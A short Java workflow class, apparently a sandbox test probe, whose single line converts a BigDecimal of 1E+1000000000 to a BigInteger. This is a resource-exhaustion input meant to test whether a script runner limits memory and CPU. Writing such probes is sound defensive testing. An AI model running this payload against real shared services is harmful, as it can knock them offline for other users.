import io.countersign.script.*;
import java.util.*;

public class KillBigDecimal implements Workflow {

    @Override
    public WorkflowResult run(WorkflowContext ctx) throws Exception {
return WorkflowResult.ok("ESCAPED: " + new java.math.BigDecimal("1E+1000000000").toBigInteger().bitLength());
    }
}
